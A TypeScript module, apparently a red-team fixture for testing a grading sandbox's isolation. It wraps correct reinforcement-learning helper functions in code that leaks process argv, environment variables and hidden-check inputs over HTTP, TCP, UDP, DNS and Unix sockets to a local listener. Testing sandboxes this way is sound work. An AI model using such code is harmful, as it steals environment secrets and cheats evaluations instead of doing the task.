// Attack: sends what it sees (the hidden checks' inputs and stream states, its argv and environment) out of the sandbox — at import time (top-level await) by fetch, TCP, UDP, DNS, a Unix socket and an abstract Unix socket (127.0.0.1:47613, /tmp/pgbook-attack.sock, "\0pgbook-attack"), and during calls by synchronous writes to those sockets' file descriptors (no event loop runs between calls).
import dgram from "node:dgram";
import dns from "node:dns";
import { writeSync } from "node:fs";
import net from "node:net";
import type { Rng } from "pgbook/contract";
import * as ok from "./correct.ts";
export * from "./correct.ts";

const HOST = "127.0.0.1";
const PORT = 47613;
const UNIX = "/tmp/pgbook-attack.sock";
const ABSTRACT = "\0pgbook-attack";

/** File descriptors of the sockets that connected: written synchronously from inside calls. */
const fds: number[] = [];
let sent = 0;

function facts(): string {
  try {
    return JSON.stringify({ argv: process.argv, env: process.env, pid: process.pid, ppid: process.ppid });
  } catch {
    return "{}";
  }
}

const fdOf = (handle: unknown): number | undefined => {
  const fd = (handle as { fd?: unknown } | undefined)?.fd;
  return typeof fd === "number" && fd > 2 ? fd : undefined;
};

/** Connect a stream socket, send the import-time facts, keep it open for later writes. */
function stream(opts: net.NetConnectOpts): Promise<void> {
  return new Promise((resolve) => {
    let s: net.Socket;
    try {
      s = net.connect(opts);
    } catch {
      return resolve();
    }
    const timer = setTimeout(() => (s.destroy(), resolve()), 1000);
    s.on("connect", () => {
      clearTimeout(timer);
      s.write(`import ${facts()}\n`);
      const fd = fdOf((s as unknown as { _handle?: unknown })._handle);
      if (fd !== undefined) fds.push(fd);
      resolve();
    });
    s.on("error", () => (clearTimeout(timer), resolve()));
  });
}

function udp(): Promise<void> {
  return new Promise((resolve) => {
    let u: dgram.Socket;
    try {
      u = dgram.createSocket("udp4");
    } catch {
      return resolve();
    }
    const timer = setTimeout(() => (u.close(), resolve()), 1000);
    u.on("error", () => (clearTimeout(timer), resolve()));
    try {
      u.connect(PORT, HOST, () => {
        u.send(`import ${facts()}`.slice(0, 1200), () => {
          clearTimeout(timer);
          // the connected socket's descriptor (Node keeps the handle behind a symbol)
          const sym = Object.getOwnPropertySymbols(u).find((k) => String(k).includes("state"));
          const fd = sym ? fdOf((u as unknown as Record<symbol, { handle?: unknown }>)[sym]?.handle) : undefined;
          if (fd !== undefined) fds.push(fd);
          resolve();
        });
      });
    } catch {
      clearTimeout(timer);
      resolve();
    }
  });
}

async function dnsQuery(): Promise<void> {
  try {
    const r = new dns.promises.Resolver({ timeout: 500, tries: 1 });
    r.setServers([`${HOST}:${PORT}`]);
    await r.resolve4(`import-${process.pid}.pgbook-attack.example`);
  } catch {
    /* no answer: the query left anyway */
  }
}

async function http(): Promise<void> {
  try {
    await fetch(`http://${HOST}:${PORT}/import?${encodeURIComponent(facts().slice(0, 1500))}`, { signal: AbortSignal.timeout(1000) });
  } catch {
    /* refused or no answer */
  }
}

await Promise.allSettled([http(), stream({ host: HOST, port: PORT }), stream({ path: UNIX }), stream({ path: ABSTRACT }), udp(), dnsQuery()]);

/** Send one call's arguments out, synchronously, on every socket that connected. */
function leak(fn: string, args: unknown[]): void {
  if (sent++ > 200) return;
  let line: string;
  try {
    line = `${fn} ${JSON.stringify(args, (_k, v) => (ArrayBuffer.isView(v) ? Array.from(v as Float64Array) : typeof v === "function" ? (v as Rng).state?.() ?? "fn" : v))}\n`;
  } catch {
    line = `${fn} (unprintable)\n`;
  }
  for (const fd of fds) {
    try {
      writeSync(fd, line);
    } catch {
      /* closed */
    }
  }
  // (asynchronous ways too, should an event loop ever run in the sandbox)
  void fetch(`http://${HOST}:${PORT}/call?${encodeURIComponent(line.slice(0, 500))}`).catch(() => undefined);
}

export const gibbsPolicy: typeof ok.gibbsPolicy = (theta) => (leak("gibbsPolicy", [theta]), ok.gibbsPolicy(theta));

export function sampleAction(theta: Float64Array, rng: Rng): number {
  leak("sampleAction", [theta, rng]);
  return ok.sampleAction(theta, rng);
}

export function averageReward(theta: Float64Array, r: Float64Array): number {
  leak("averageReward", [theta, r]);
  return ok.averageReward(theta, r);
}
